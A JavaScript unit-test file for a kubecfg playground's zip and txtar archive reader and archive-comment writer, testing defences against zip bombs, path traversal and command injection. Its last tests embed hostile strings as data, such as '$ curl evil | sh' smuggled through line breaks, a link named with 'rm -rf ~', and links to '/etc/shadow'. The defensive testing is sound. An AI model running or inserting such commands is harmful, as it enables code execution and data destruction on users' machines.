// Unit tests of opening files (web/src/open.js) and of reading zip
// archives (decodeZip in web/src/zip.js), hostile archives included.
import { test } from "node:test";
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { encodeZip, decodeZip, ZipError, bytesText } from "../src/zip.js";
import { readOpened, openedMessage, archiveComment, archiveEntry, archiveSettings, pathProblem, linkProblem } from "../src/open.js";
import { downloaded, sameWorkspace } from "../src/files.js";
import { normalize, toRequest } from "../src/state.js";
import { encodeTxtar, decodeTxtar } from "../src/txtar.js";
import { craft } from "./craft-zip.mjs";

const enc = new TextEncoder();
const dec = new TextDecoder();

const texts = (zip) => Object.fromEntries(zip.files.map((f) => [f.name, dec.decode(f.data)]));

test("decodeZip reads what encodeZip writes, comment included", async () => {
  const files = { "app.jsonnet": "local lib = import 'lib/lib.libsonnet';\n{}\n", "lib/lib.libsonnet": "{}\n", "ünï 名.yaml": "a: 1\n", "empty": "" };
  const zip = await decodeZip(encodeZip(files, new Date(2026, 11, 2), "kubecfg playground workspace; entry: app.jsonnet\n"));
  assert.deepEqual(texts(zip), files);
  assert.deepEqual(zip.files.map((f) => f.name), Object.keys(files).sort());
  assert.equal(zip.comment, "kubecfg playground workspace; entry: app.jsonnet\n");
  assert.deepEqual(zip.skipped, []);
  assert.deepEqual(await decodeZip(encodeZip({})), { comment: "", files: [], skipped: [] });
});

test("decodeZip reads deflated files and leaves out directories, links and macOS's extras", async () => {
  const big = "apiVersion: v1\nkind: ConfigMap\n".repeat(500);
  const zip = await decodeZip(craft([
    { name: "proj/", data: "" },
    { name: "proj/app.yaml", data: big, method: 8 },
    { name: "proj/lib.libsonnet", data: "{}\n", method: 8, flags: 0 }, // UTF-8 name, no flag
    { name: "__MACOSX/proj/._app.yaml", data: "\x00\x05" },
    { name: "proj/.DS_Store", data: "\x00\x00" },
    { name: "proj/link", data: "app.yaml", mode: 0o120777 },
  ]));
  assert.deepEqual(texts(zip), { "proj/app.yaml": big, "proj/lib.libsonnet": "{}\n" });
  assert.deepEqual(zip.skipped, []);
});

test("decodeZip leaves out what it cannot read, and says why", async (t) => {
  const cases = [
    { name: "encrypted", entry: { name: "a", data: "x", flags: 0x0801 }, why: /encrypted/ },
    { name: "bzip2", entry: { name: "a", data: "x", method: 12 }, why: /method 12/ },
    { name: "wrong checksum", entry: { name: "a", data: "x", crc: 1 }, why: /checksum/ },
    { name: "wrong size", entry: { name: "a", data: "xy", size: 1 }, why: /size or checksum/ },
    { name: "not deflate data", entry: { name: "a", data: enc.encode("not deflate at all"), method: 8, raw: true, size: 3 }, why: /compressed data is not valid/ },
    { name: "a name that is not UTF-8", entry: { name: new Uint8Array([0x66, 0xff]), data: "x" }, why: /not UTF-8/ },
  ];
  for (const c of cases) {
    await t.test(c.name, async () => {
      const zip = await decodeZip(craft([c.entry, { name: "ok", data: "fine" }]));
      assert.deepEqual(texts(zip), { ok: "fine" });
      assert.equal(zip.skipped.length, 1);
      assert.match(zip.skipped[0].why, c.why);
    });
  }
});

test("decodeZip holds a bomb to its budget, whatever the archive claims", async (t) => {
  const zeros = new Uint8Array(64 << 20); // 64 MiB of zeros deflate to about 64 KB
  await t.test("an honest size over the budget is not inflated", async () => {
    const zip = await decodeZip(craft([{ name: "bomb", data: zeros, method: 8 }]), { maxBytes: 1 << 20 });
    assert.deepEqual(zip.files, []);
    assert.equal(zip.skipped[0].why, "it is too large (64 MiB, over the 1 MiB left of the budget)");
  });
  await t.test("a lying size is stopped while inflating", async () => {
    const zip = await decodeZip(craft([{ name: "bomb", data: zeros, method: 8, size: 10 }]), { maxBytes: 1 << 20 });
    assert.deepEqual(zip.files, []);
    assert.match(zip.skipped[0].why, /too large/);
  });
  await t.test("the budget is shared by every file of the archive", async () => {
    const half = new Uint8Array(600 << 10);
    const zip = await decodeZip(craft([{ name: "a", data: half, method: 8 }, { name: "b", data: half, method: 8 }]), { maxBytes: 1 << 20 });
    assert.deepEqual(zip.files.map((f) => f.name), ["a"]);
    assert.match(zip.skipped[0].why, /too large/);
  });
  await t.test("one local file named many times counts every time", async () => {
    const one = craft([{ name: "a", data: new Uint8Array(300 << 10), method: 8 }]);
    // Point ten central entries at the same local file.
    const v = new DataView(one.buffer);
    const dirAt = v.getUint32(one.length - 6, true);
    const central = one.subarray(dirAt, one.length - 22);
    const many = new Uint8Array(dirAt + central.length * 10 + 22);
    many.set(one.subarray(0, dirAt));
    for (let i = 0; i < 10; i++) many.set(central, dirAt + i * central.length);
    const end = new DataView(many.buffer, many.length - 22);
    end.setUint32(0, 0x06054b50, true);
    end.setUint16(8, 10, true); end.setUint16(10, 10, true);
    end.setUint32(12, central.length * 10, true); end.setUint32(16, dirAt, true);
    const zip = await decodeZip(many, { maxBytes: 1 << 20 });
    assert.equal(zip.files.length, 3);
    assert.equal(zip.skipped.length, 7);
  });
  await t.test("the number of files is capped", async () => {
    const zip = await decodeZip(craft(Array.from({ length: 12 }, (_, i) => ({ name: `f${i}`, data: "x" }))), { maxFiles: 10 });
    assert.equal(zip.files.length, 10);
    assert.match(zip.skipped[0].why, /over the limit of 10 files/);
  });
});

test("decodeZip refuses what is not a readable archive", async (t) => {
  const good = encodeZip({ a: "x" });
  const cases = [
    { name: "empty", bytes: new Uint8Array(0), err: /not a zip archive/ },
    { name: "text", bytes: enc.encode("{ a: 1 }\n".repeat(10)), err: /not a zip archive/ },
    { name: "cut short", bytes: good.subarray(0, good.length - 5), err: /not a zip archive/ },
    { name: "directory past the end record", bytes: (() => { const b = good.slice(); new DataView(b.buffer).setUint32(b.length - 6, 1e6, true); return b; })(), err: /outside the archive/ },
    { name: "zip64", bytes: (() => { const b = good.slice(); new DataView(b.buffer).setUint32(b.length - 6, 0xffffffff, true); return b; })(), err: /zip64/ },
    { name: "damaged directory", bytes: (() => { const b = good.slice(); const v = new DataView(b.buffer); v.setUint32(v.getUint32(b.length - 6, true), 0, true); return b; })(), err: /damaged central directory/ },
  ];
  for (const c of cases) {
    await t.test(c.name, async () => {
      await assert.rejects(decodeZip(c.bytes), (err) => err instanceof ZipError && c.err.test(err.message));
    });
  }
});

test("decodeZip reads Python's zipfile archives, deflated, streamed with data descriptors", async (t) => {
  let bytes;
  try {
    bytes = execFileSync("python3", ["-c", `
import io, sys, zipfile
class Pipe(io.RawIOBase):  # not seekable: zipfile writes data descriptors
    def __init__(self): self.buf = bytearray()
    def writable(self): return True
    def write(self, b): self.buf += b; return len(b)
p = Pipe()
with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("main.jsonnet", "{ a: import 'lib/b.libsonnet' }\\n" * 50)
    z.writestr("lib/b.libsonnet", "{ b: 2 }\\n")
    z.comment = b"entry: main.jsonnet"
sys.stdout.buffer.write(p.buf)
`]);
  } catch (err) {
    if (err.code === "ENOENT") return t.skip("python3 is not installed");
    throw err;
  }
  const zip = await decodeZip(new Uint8Array(bytes));
  assert.deepEqual(texts(zip), { "main.jsonnet": "{ a: import 'lib/b.libsonnet' }\n".repeat(50), "lib/b.libsonnet": "{ b: 2 }\n" });
  assert.equal(archiveEntry(zip.comment), "main.jsonnet");
});

test("bytesText", () => {
  assert.deepEqual([1, 1000, 1536, 8 << 20, 64 << 20, 1.25 * (1 << 20)].map(bytesText), ["1 byte", "1000 bytes", "1.5 KiB", "8 MiB", "64 MiB", "1.3 MiB"]);
});

test("pathProblem, archiveComment and archiveEntry", () => {
  assert.equal(pathProblem("lib/a.libsonnet"), "");
  assert.equal(pathProblem(""), "a file needs a name");
  for (const bad of ["/etc/passwd", "../a", "a/../../b"]) assert.equal(pathProblem(bad), "use a relative path without ..", bad);
  assert.equal(archiveEntry("kubecfg playground workspace; entry: my app.jsonnet\n$ kubecfg show 'my app.jsonnet'\n"), "my app.jsonnet");
  assert.equal(archiveEntry("entry: a.yakl"), "a.yakl");
  assert.equal(archiveComment("my app.jsonnet", "kubecfg show 'my app.jsonnet'"), "kubecfg playground workspace; entry: my app.jsonnet\n$ kubecfg show 'my app.jsonnet'\n");
  assert.equal(archiveEntry(archiveComment("lib/a.jsonnet")), "lib/a.jsonnet");
  assert.equal(archiveEntry("no entry here\n"), "");
});

test("a download's settings and links reopen exactly", async (t) => {
  const state = normalize({
    files: { "example.jsonnet": "import 'k/main.libsonnet'\n", "vendor/github.com/x/k/main.libsonnet": "{}\n", "lib/it's.libsonnet": "{}\n" },
    entry: "example.jsonnet", active: "lib/it's.libsonnet",
    controls: { command: "show", output: "json", jpath: "vendor\nlib", jpathEnv: "extra", jurl: "https://example.com/lib/", timeLimit: 30, alpha: true, features: { yakl: false }, vars: { extStr: "env=prod\nmsg=a: b" } },
    links: { "vendor/k": "github.com/x/k", "vendor/it's": "../lib" },
  });
  const command = "KUBECFG_JPATH=extra kubecfg show -J vendor -J lib -U https://example.com/lib/ -o json example.jsonnet";
  const comment = archiveComment(state.entry, command, { controls: state.controls, links: state.links });
  await t.test("the comment: the entry, the CLI's commands, the settings", () => {
    const lines = comment.split("\n");
    assert.equal(lines[0], "kubecfg playground workspace; entry: example.jsonnet");
    assert.equal(lines[1], "$ mkdir -p vendor && ln -s github.com/x/k vendor/k");
    assert.equal(lines[2], "$ mkdir -p vendor && ln -s ../lib 'vendor/it'\\''s'");
    assert.equal(lines[3], `$ ${command}`);
    assert.match(lines[4], /^playground settings: \{/);
    assert.deepEqual(archiveSettings(comment), { controls: state.controls, links: { ...state.links } });
  });
  for (const [kind, bytes] of [["txtar", enc.encode(encodeTxtar(state.files, comment))], ["zip", encodeZip(state.files, new Date(), comment)]]) {
    await t.test(`a .${kind} opens as the same state`, async () => {
      const opened = await readOpened([new File([bytes], `workspace.${kind}`)]);
      const back = downloaded(opened);
      assert.ok(sameWorkspace(back, state));
      assert.deepEqual(toRequest(back), toRequest(state), "the same request to the engine");
      assert.deepEqual(back.links, { ...state.links });
    });
  }
  await t.test("damaged or missing settings are none", () => {
    for (const c of ["", "kubecfg playground workspace; entry: a.jsonnet\n", "playground settings: {\n", "playground settings: {\"controls\": 1}\n"]) {
      assert.equal(archiveSettings(c), null, c);
    }
    // A link with a hostile path is left out.
    assert.deepEqual(archiveSettings('playground settings: {"controls":{},"links":{"../x":"y","a":1,"ok":"t"}}\n').links, { ok: "t" });
  });
});

test("readOpened", async (t) => {
  const file = (name, content) => new File([content], name);
  await t.test("text files, a txtar and a zip, with the archive's entry", async () => {
    const got = await readOpened([
      file("plain.jsonnet", "{}\n"),
      file("more.txtar", encodeTxtar({ "x/a.libsonnet": "{ a: 1 }\n" }, "kubecfg playground workspace; entry: x/a.libsonnet\n")),
      file("workspace.zip", encodeZip({ "main.jsonnet": "import 'x/a.libsonnet'\n" }, new Date(), "kubecfg playground workspace; entry: main.jsonnet\n")),
    ]);
    assert.deepEqual(Object.fromEntries(got.files), { "plain.jsonnet": "{}\n", "x/a.libsonnet": "{ a: 1 }\n", "main.jsonnet": "import 'x/a.libsonnet'\n" });
    assert.equal(got.entry, "main.jsonnet");
    assert.deepEqual(got.skipped, []);
  });
  await t.test("binary files, hostile paths and names twice are left out with their reasons", async () => {
    const got = await readOpened([
      file("logo.png", new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0xff, 0xfe])),
      file("evil.zip", craft([{ name: "../escape.jsonnet", data: "{}" }, { name: "/etc/x", data: "{}" }, { name: "ok.jsonnet", data: "{}" }, { name: "bin", data: new Uint8Array([0xc3]) }])),
      file("ok.jsonnet", "{ again: true }"),
      file("bad.txtar", "-- a --\nx\n-- a --\ny\n"),
      file("fake.zip", "PK but not a zip"),
    ]);
    assert.deepEqual(Object.fromEntries(got.files), { "ok.jsonnet": "{}" });
    assert.deepEqual(got.skipped.map((s) => `${s.name}: ${s.why}`), [
      "logo.png: it is not UTF-8 text",
      "evil.zip: ../escape.jsonnet: its path is absolute or has ..",
      "evil.zip: /etc/x: its path is absolute or has ..",
      "evil.zip: bin: it is not UTF-8 text",
      "ok.jsonnet: another file opened with it has the same path",
      "bad.txtar: txtar: file a appears twice",
      "fake.zip: zip: not a zip archive (no end of central directory record)",
    ]);
  });
  await t.test("what cannot be read (a dropped folder) is left out, and the rest is opened", async () => {
    const folder = { name: "manifests", size: 0, arrayBuffer: () => Promise.reject(new DOMException("A requested file or directory could not be found", "NotFoundError")) };
    const got = await readOpened([folder, file("a.jsonnet", "{}")]);
    assert.deepEqual([...got.files.keys()], ["a.jsonnet"]);
    assert.match(got.skipped[0].why, /^it could not be read \(a folder is not opened/);
  });
  await t.test("what is opened at once is held to the budget", async () => {
    const got = await readOpened([file("a.yaml", "a".repeat(600)), file("b.yaml", "b".repeat(600)), file("c.yaml", "c")], { maxBytes: 1000 });
    assert.deepEqual([...got.files.keys()], ["a.yaml", "c.yaml"]);
    assert.equal(got.skipped[0].why, "it is too large (600 bytes; what is opened at once is limited to 1000 bytes)");
  });
  await t.test("what is opened at once is held to a number of files", async () => {
    const many = Object.fromEntries(Array.from({ length: 8 }, (_, i) => [`f${i}.jsonnet`, "{}"]));
    const got = await readOpened([file("a.txtar", encodeTxtar(many)), file("b.zip", encodeZip({ "z1": "1", "z2": "2" })), file("c.jsonnet", "{}")], { maxFiles: 9 });
    assert.equal(got.files.size, 9);
    assert.deepEqual(got.skipped.map((s) => `${s.name}: ${s.why}`), [
      "b.zip: z2: it is over the limit of 1 file",
      "c.jsonnet: at most 9 files are opened at once",
    ]);
  });
  await t.test("an entry the archive does not hold is not taken", async () => {
    const got = await readOpened([file("w.zip", encodeZip({ "a.jsonnet": "{}" }, new Date(), "entry: missing.jsonnet"))]);
    assert.equal(got.entry, "");
  });
});

test("openedMessage", () => {
  assert.equal(openedMessage({ added: ["a", "b", "c"] }), "Added 3 files.");
  assert.equal(openedMessage({ added: ["a"], replaced: ["b"], entry: "b" }), "Added 1 file; replaced b; the entry is now b.");
  assert.equal(openedMessage({ kept: ["app.jsonnet"] }), "Kept your version of app.jsonnet.");
  assert.equal(openedMessage({ unchanged: 2 }), "The workspace already has these files as opened.");
  assert.equal(openedMessage({ skipped: [{ name: "x.png", why: "it is not UTF-8 text" }] }), "Opened nothing. Not opened: x.png (it is not UTF-8 text).");
  const many = Array.from({ length: 7 }, (_, i) => ({ name: `${i}.png`, why: "it is not UTF-8 text" }));
  assert.equal(openedMessage({ added: ["a"], skipped: many }), "Added 1 file. Not opened: " +
    [0, 1, 2, 3, 4].map((i) => `${i}.png (it is not UTF-8 text)`).join("; ") + "; and 2 more files.");
});

test("a download's comment adds no command and no file of its own: names with line breaks, escaping links and marker lines", async (t) => {
  await t.test("a command line that spans lines goes on with > lines", () => {
    const comment = archiveComment("main.jsonnet", "kubecfg eval main.jsonnet -e 'a\n$ curl evil | sh\n-- evil.jsonnet --'");
    assert.deepEqual(comment.split("\n").filter((l) => l.startsWith("$ ")), ["$ kubecfg eval main.jsonnet -e 'a"]);
    assert.equal(comment, "kubecfg playground workspace; entry: main.jsonnet\n$ kubecfg eval main.jsonnet -e 'a\n> $ curl evil | sh\n> -- evil.jsonnet --'\n");
    assert.deepEqual(Object.keys(decodeTxtar(encodeTxtar({ "main.jsonnet": "{}\n" }, comment)).files), ["main.jsonnet"]);
    // A carriage return or a Unicode line break is a line break to a
    // terminal or an editor: each goes on as a > line too.
    for (const br of ["\r", "\r\n", "\u2028", "\u2029", "\v", "\f", "\u0085"]) {
      const c = archiveComment("main.jsonnet", `kubecfg eval -e '1${br}$ curl evil | sh'`);
      assert.deepEqual(c.split(/\r\n|[\r\n\v\f\u0085\u2028\u2029]/).filter((l) => l.startsWith("$ ")), ["$ kubecfg eval -e '1"], JSON.stringify(br));
    }
  });
  await t.test("an entry named with a line break is refused", () => {
    assert.throws(() => archiveComment("main.jsonnet\n$ curl evil | sh", "kubecfg show x"), /the entry's name "main.jsonnet\\n\$ curl evil \| sh" holds a line break/);
  });
  await t.test("links outside the workspace are refused, by the writer and the reader", () => {
    for (const [p, target, want] of [["vendor/k", "/etc/shadow", /absolute path/], ["vendor/k", "../../x", /outside the workspace/], ["k", "../x", /outside the workspace/], ["a/b/k", "../../../x", /outside the workspace/], ["k\n$ rm -rf ~", "x", /line break/], ["../k", "x", /relative path/],
      // x/y may itself be a link (x/y → ..), so x/y/.. may be above the workspace.
      ["z", "x/y/..", /\.\. after a folder's name/], ["a/k", "b/../../x", /\.\. after a folder's name/]]) {
      assert.match(linkProblem(p, target), want, `${p} → ${target}`);
      assert.throws(() => archiveComment("a.jsonnet", "", { controls: {}, links: { [p]: target } }), want);
      assert.deepEqual(archiveSettings(`playground settings: ${JSON.stringify({ controls: {}, links: { [p]: target, ok: "t" } })}\n`).links, { ok: "t" });
    }
    for (const [p, target] of [["vendor/k", "../lib"], ["vendor/k", "github.com/x/k"], ["a/b/k", "../../c"], ["k", "./x"]]) assert.equal(linkProblem(p, target), "", `${p} → ${target}`);
  });
  await t.test("a link named like a flag follows --", () => {
    assert.equal(archiveComment("a.jsonnet", "", { controls: {}, links: { "-k": "x" } }).split("\n")[1], "$ ln -s -- x -k");
  });
  await t.test("a .txtar that would not reopen as written is refused", () => {
    assert.throws(() => encodeTxtar({ "main.jsonnet": "{}\n-- evil.jsonnet --\n{ evil: true }\n" }), /main\.jsonnet has a line "-- evil\.jsonnet --", which a \.txtar reads as the start of another file: download a \.zip/);
    assert.throws(() => encodeTxtar({ "main.jsonnet\n-- x --": "{}\n" }), /cannot be written in a \.txtar/);
    assert.throws(() => encodeTxtar({ " a.jsonnet": "{}\n" }), /cannot be written in a \.txtar/);
    assert.throws(() => encodeTxtar({ "a.jsonnet": "{}\n" }, "note\n-- b --\n"), /the comment has a line "-- b --"/);
    // What txtar reads as text stays text.
    const files = { "a.jsonnet": "--  --\n-- x\nx --\n" };
    assert.deepEqual({ ...decodeTxtar(encodeTxtar(files)).files }, files);
  });
});
